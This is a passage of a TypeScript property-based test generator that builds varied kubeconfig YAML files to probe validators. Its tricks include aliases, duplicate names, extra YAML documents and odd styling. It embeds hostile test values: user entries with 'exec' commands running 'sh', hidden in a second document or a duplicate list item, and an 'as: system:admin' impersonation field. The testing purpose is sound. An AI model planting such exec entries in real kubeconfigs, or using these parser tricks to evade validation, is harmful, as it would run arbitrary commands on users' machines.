      return withEntries(edited, [entry('x-first', first), entry('x-second', second), ...edited.entries]);
    }
    case 'alias-key': {
      // The key itself comes through an alias to a scalar defined elsewhere.
      features.add('anchor-alias');
      const name = `k${String(state.anchors++)}${state.anchorSuffix}`;
      const holder = entry('x-keys', seq([{ ...str(applied.field), anchor: name }]));
      const unsafe = unsafeEntry(applied.field);
      const edited = editUser(root, applied.user % userCount, (user) =>
        withEntries(user, [...user.entries, { key: { kind: 'alias', name }, value: unsafe.value }]),
      );
      return withEntries(edited, [holder, ...edited.entries]);
    }
    case 'alias-user': {
      const from = applied.from % userCount;
      const to = applied.to % userCount;
      if (from === to) return root;
      features.add('anchor-alias');
      const name = `u${String(state.anchors++)}a${state.anchorSuffix}`;
      let source: YMap | undefined;
      const anchored = editUser(root, from, (user) => {
        source = { ...user, anchor: name };
        return source;
      });
      // Anchors must come before their aliases in document order.
      if (from > to || source === undefined) return root;
      return editUser(anchored, to, () => ({ kind: 'alias', name }));
    }
    case 'second-document': {
      features.add('document-markers');
      state.extraDocument = applied.unsafe
        ? 'users:\n- name: u0\n  user:\n    exec: {command: sh, apiVersion: client.authentication.k8s.io/v1beta1}\n'
        : 'kind: Config\n';
      return root;
    }
    case 'raw-key': {
      features.add('raw-key');
      const unsafe = unsafeEntry(applied.field);
      const key = plain(applied.key.replace('%s', applied.field));
      return editUser(root, applied.user % userCount, (user) => ({
        ...withEntries(user, [...user.entries, { key, value: unsafe.value }]),
        flow: applied.flow,
      }));
    }
    case 'numeric-key': {
      features.add('numeric-key');
      const key = plain(applied.key);
      if (applied.place === 'top')
        return withEntries(root, [...root.entries, entry('x-numbers', map([{ key, value: str('v') }]))]);
      return editUser(root, applied.user % userCount, (user) => {
        const extra = entry('as-user-extra', map([{ key, value: seq([str('v')]) }]));
        // Validate wants a user to impersonate for extras.
        const as = user.entries.some((item) => keyName(item.key) === 'as')
          ? []
          : [entry('as', str('system:admin'))];
        return withEntries(user, [...user.entries, ...as, extra]);
      });
    }
    case 'duplicate-name':
      features.add('duplicate-name');
      return duplicateName(root, applied.list, applied.user % userCount);
    case 'tag':
    case 'yaml11':
    case 'comment':
      return editNth(root, applied, features);
  }
}

const DUPLICATE_EXTENSIONS = seq([
  fromData({ name: 'dup', extension: { a: 1 } }),
  fromData({ name: 'dup', extension: { exec: { command: 'sh' } } }),
]);

/** Add `extensions` with one name twice to a map (into its own list, when it has one). */
function withDuplicateExtensions(node: YMap): YMap {
  const existing = node.entries.find(({ key }) => keyName(key) === 'extensions');
  if (existing?.value.kind === 'seq') {
    const first = existing.value.items[0];
    const items = first === undefined ? DUPLICATE_EXTENSIONS.items : [...existing.value.items, first];
    return withEntries(
      node,
      node.entries.map((item) =>
        item === existing ? { ...item, value: { ...existing.value, items } } : item,
      ),
    );
  }
  return withEntries(node, [...node.entries, entry('extensions', DUPLICATE_EXTENSIONS)]);
}

/** Give one named list an item whose name is already taken. */
function duplicateName(root: YMap, list: NamedList, user: number): YMap {
  const editSection = (section: string, edit: (items: readonly YNode[]) => YNode[]): YMap =>
    withEntries(
      root,
      root.entries.map((item) =>
        keyName(item.key) === section && item.value.kind === 'seq'
          ? { ...item, value: { ...item.value, items: edit(item.value.items) } }
          : item,
      ),
    );
  /** The `field` map inside the first item of a section, edited. */
  const editFirst = (section: string, field: string): YMap =>
    editSection(section, (items) =>
      items.map((item, index) => {
        if (index !== 0 || item.kind !== 'map') return item;
        return withEntries(
          item,
          item.entries.map((inner) =>
            keyName(inner.key) === field && inner.value.kind === 'map'
              ? { ...inner, value: withDuplicateExtensions(inner.value) }
              : inner,
          ),
        );
      }),
    );
  switch (list) {
    case 'clusters':
      return editSection('clusters', (items) => [...items, ...items.slice(0, 1)]);
    case 'contexts':
      return editSection('contexts', (items) => [...items, ...items.slice(0, 1)]);
    case 'users':
      // The copy runs a program: a reader that kept it (the last of two) would run it.
      return editSection('users', (items) => [
        ...items,
        map([entry('name', str(`u${String(user)}`)), entry('user', map([unsafeEntry('exec')]))]),
      ]);
    case 'extensions':
      return withDuplicateExtensions(root);
    case 'preferences-extensions': {
      const hasPreferences = root.entries.some(({ key }) => keyName(key) === 'preferences');
      const withPreferences = hasPreferences
        ? root
        : withEntries(root, [...root.entries, entry('preferences', map([]))]);
      return withEntries(
        withPreferences,
        withPreferences.entries.map((item) =>
          keyName(item.key) === 'preferences' && item.value.kind === 'map'
            ? { ...item, value: withDuplicateExtensions(item.value) }
            : item,
        ),
      );
    }
    case 'cluster-extensions':
      return editFirst('clusters', 'cluster');
    case 'context-extensions':
      return editFirst('contexts', 'context');
    case 'user-extensions':
      return editUser(root, user, withDuplicateExtensions);
  }
}

/** Apply a scalar-level trick to the n-th scalar (or entry) of the tree, in document order. */
function editNth(
  root: YMap,
  applied: Extract<Trick, { kind: 'tag' | 'yaml11' | 'comment' }>,
  features: Set<Feature>,
): YMap {
  let count = 0;
  mapTree(root, (node) => {
    if (node.kind === 'scalar' || node.kind === 'map') count += 1;
    return node;
  });
  const target = applied.target % Math.max(count, 1);
  let seen = 0;
  return asMap(
    mapTree(root, (node) => {
      if (node.kind !== 'scalar' && node.kind !== 'map') return node;
      const here = seen++;
      if (here !== target) return node;
      if (applied.kind === 'tag') {
        features.add('tag');
        return { ...node, tag: applied.tag };
      }
      if (applied.kind === 'yaml11') {
        if (node.kind !== 'scalar') return node;
        features.add('yaml11-scalar');
        return { kind: 'scalar', value: applied.value, style: 'plain' };
      }
      if (node.kind !== 'map' || node.entries.length === 0) return node;
      features.add('comment');
      return withEntries(
        node,
        node.entries.map((item, index) => (index === 0 ? { ...item, comment: applied.text } : item)),
      );
    }),
  );
}

// ---------------------------------------------------------------------------------------------
// Styles: a tape of choices walked over the tree, so every node may be written differently.

class Tape {
  #index = 0;
  readonly #choices: readonly number[];
  constructor(choices: readonly number[]) {
    this.#choices = choices.length === 0 ? [0] : choices;
  }
  pick(n: number): number {
    const value = this.#choices[this.#index % this.#choices.length] ?? 0;
    this.#index += 1;
    return value % n;
  }
}

const STRING_STYLES: readonly ScalarStyle[] = [
  'double',
  'single',
  'plain',
  'plain',
  'plain',
  'escaped',
  'literal',
  'folded',
];

function restyle(node: YNode, tape: Tape, inFlow: boolean, features: Set<Feature>): YNode {
  if (node.kind === 'alias') return node;
  if (node.kind === 'scalar') return restyleScalar(node, tape, inFlow, false, features);
  // Flow is chosen now and then; everything under a flow collection is flow too.
  const flow = inFlow || node.flow || tape.pick(6) === 0;
  if (flow && !inFlow) features.add('flow-style');
  if (node.kind === 'seq') {
    return { ...node, flow, items: node.items.map((item) => restyle(item, tape, flow, features)) };
  }
  return {
    ...node,
    flow,
    entries: node.entries.map((item) => {
      const explicitKey = !flow && tape.pick(40) === 0;
      if (explicitKey) features.add('explicit-key');
      const restyled: YEntry = {
        ...item,
        key: item.key.kind === 'scalar' ? restyleScalar(item.key, tape, flow, true, features) : item.key,
        value: restyle(item.value, tape, flow, features),
      };
      return explicitKey ? { ...restyled, explicitKey } : restyled;
    }),
  };
}

function restyleScalar(
  node: YScalar,
  tape: Tape,
  inFlow: boolean,
  isKey: boolean,
  features: Set<Feature>,
): YScalar {
  // Only strings written by str() are free to change style; plain values (null, numbers, the
  // tricks' raw text) mean what they say.
  if (node.style === 'plain' && !isSafePlain(node.value, inFlow)) return node;
  if (node.style !== 'plain' && node.style !== 'double') return node;
  const choices = isKey ? STRING_STYLES.slice(0, 6) : STRING_STYLES;
  let style = choices[tape.pick(choices.length)] ?? 'double';
  if (style === 'plain' && !isSafePlain(node.value, inFlow)) style = 'double';
  if (isKey && style === 'escaped') features.add('escaped-key');
  return { ...node, style };
}

// ---------------------------------------------------------------------------------------------

type Wrapper = 'none' | 'bom' | 'document-start' | 'document-end' | 'directive' | 'header-comment';

/** Where a tab goes: around flow collections ({...}, [...]), before a JSON root, at line edges. */
type TabPlace =
  | 'text-start'
  | 'line-start'
  | 'after-open'
  | 'before-close'
  | 'after-comma'
  | 'after-colon'
  | 'line-end'
  | 'text-end';

const TAB_PLACES: Readonly<Record<TabPlace, RegExp | null>> = {
  'text-start': null,
  'line-start': /(?<=\n)/g,
  'after-open': /(?<=[[{])/g,
  'before-close': /(?=[\]}])/g,
  'after-comma': /(?<=,)/g,
  'after-colon': /(?<=:)/g,
  'line-end': /(?=\n)/g,
  'text-end': null,
};

/** Insert a tab (or a space and a tab) at the nth place of a kind; the text start when there is none. */
function insertTab(text: string, place: TabPlace, nth: number, spaceFirst: boolean): string {
  const tab = spaceFirst ? ' \t' : '\t';
  const pattern = TAB_PLACES[place];
  if (pattern === null) return place === 'text-end' ? `${text}${tab}` : `${tab}${text}`;
  const positions = [...text.matchAll(pattern)].map((match) => match.index);
  const at = positions.length === 0 ? 0 : (positions[nth % positions.length] ?? 0);
  return `${text.slice(0, at)}${tab}${text.slice(at)}`;
}

const renderOptions: fc.Arbitrary<RenderOptions> = fc.record({
  indent: fc.constantFrom<2 | 4>(2, 4),
  indentSequences: fc.boolean(),
  flowColon: fc.oneof(
    { weight: 12, arbitrary: fc.constant<': '>(': ') },
    { weight: 1, arbitrary: fc.constant<':'>(':') },
  ),
  newline: fc.constantFrom<'\n' | '\r\n' | '\r'>('\n', '\n', '\n', '\n', '\r\n', '\r'),
  separator: fc.oneof(
    { weight: 8, arbitrary: fc.constant<' '>(' ') },
    { weight: 1, arbitrary: fc.constant<'\t'>('\t') },
  ),
  // Clip and keep add a final newline to the value, which few fields survive.
  chomping: fc.oneof(
    { weight: 8, arbitrary: fc.constant<'-'>('-') },
    { weight: 1, arbitrary: fc.constantFrom<'' | '+'>('', '+') },
  ),
  flowBreak: fc.oneof(
    { weight: 6, arbitrary: fc.constant(null) },
    { weight: 1, arbitrary: fc.constantFrom(0, 1, 2, 4, 8) },
  ),
});

const caseSpec = fc.record({
  config: configSpec,
  tricks: fc.oneof(
    { weight: 2, arbitrary: fc.constant([]) },
    { weight: 3, arbitrary: fc.array(trick, { minLength: 1, maxLength: 3 }) },
  ),
  tape: fc.array(fc.nat(1_000), { minLength: 8, maxLength: 48 }),
  render: renderOptions,
  json: fc.oneof(
    { weight: 6, arbitrary: fc.constant(null) },
    {
      weight: 1,
      arbitrary: fc.record({
        pretty: fc.boolean(),
        escapeKeys: fc.boolean(),
        escapeSlash: fc.oneof(
          { weight: 6, arbitrary: fc.constant(false) },
          { weight: 1, arbitrary: fc.constant(true) },
        ),
        asciiOnly: fc.boolean(),
      }),
    },
  ),
  dropFinalNewline: fc.oneof(
    { weight: 6, arbitrary: fc.constant(false) },
    { weight: 1, arbitrary: fc.constant(true) },
  ),
  anchorSuffix: fc.oneof(
    { weight: 8, arbitrary: fc.constant('') },
    { weight: 1, arbitrary: fc.constantFrom('.x', ':x', '/x', '\u00e9', '-_9', '[x]') },
  ),
  tab: fc.oneof(
    { weight: 10, arbitrary: fc.constant(null) },
    {
      weight: 1,
      arbitrary: fc.record({
        where: fc.constantFrom<TabPlace>(
          'text-start',
          'line-start',
          'after-open',
          'before-close',
          'after-comma',
          'after-colon',
          'line-end',
          'text-end',
        ),
        nth: fc.nat(40),
        spaceFirst: fc.boolean(),
      }),
    },
  ),
  wrapper: fc.constantFrom<Wrapper>(
    'none',
    'none',
    'none',
    'none',
    'bom',
    'document-start',
    'document-end',
    'directive',
    'header-comment',
  ),
});

/** The arbitrary the differential suite samples: one kubeconfig text and the tricks it uses. */
export const kubeconfigVariant: fc.Arbitrary<GeneratedKubeconfig> = caseSpec.map((spec) => {
  const features = new Set<Feature>();
  const state: TrickState = {
    anchors: 0,
    anchorSuffix: spec.anchorSuffix,
    extraDocument: undefined,
  };
  let root = configNode(spec.config, features);
  for (const applied of spec.tricks) root = applyTrick(root, applied, features, state);
  const styled = restyle(root, new Tape(spec.tape), false, features) as YMap;
  const render = spec.render;
  if (render.newline !== '\n') features.add('crlf');
  let text: string | undefined;
  if (spec.json !== null) {
    text = renderJson(styled, spec.json);
    if (text !== undefined) features.add('json');
  }
  text ??= renderYaml(styled, render);
  switch (spec.wrapper) {
    case 'none':
      break;
    case 'bom':
      text = `\ufeff${text}`;
      break;
    case 'document-start':
      features.add('document-markers');
      text = `---\n${text}`;
      break;
    case 'document-end':
      features.add('document-markers');
      text = `${text}...\n`;
      break;
    case 'directive':
      features.add('document-markers');
      text = `%YAML 1.1\n---\n${text}`;
      break;
    case 'header-comment':
      features.add('comment');
      text = `# This file is autogenerated, do not edit.\n${text}`;
      break;
  }
  if (state.extraDocument !== undefined) text = `${text}---\n${state.extraDocument}`;
  if (spec.tab !== null) {
    features.add('tab-around-flow');
    text = insertTab(text, spec.tab.where, spec.tab.nth, spec.tab.spaceFirst);
  }
  // A Secret made with `kubectl create secret --from-file` keeps a file's missing final newline.
  if (spec.dropFinalNewline) text = text.replace(/(?:\r\n|\r|\n)$/, '');
  return { text, features: [...features].sort() };
});

/** A kubeconfig in the canonical form `kubectl remote-secret create` writes, for sanity checks. */
export function canonicalKubeconfig(): string {
  return renderYaml(
    fromData({
      apiVersion: 'v1',
      kind: 'Config',
      clusters: [
        {
          name: 'c0',
          cluster: { server: 'https://remote.example:6443', 'certificate-authority-data': CA_DATA },
        },
      ],
      contexts: [{ name: 'ctx0', context: { cluster: 'c0', user: 'u0' } }],
      'current-context': 'ctx0',
      users: [{ name: 'u0', user: { token: 'abc.def.ghi' } }],
    }),
    DEFAULT_RENDER,
  );
}
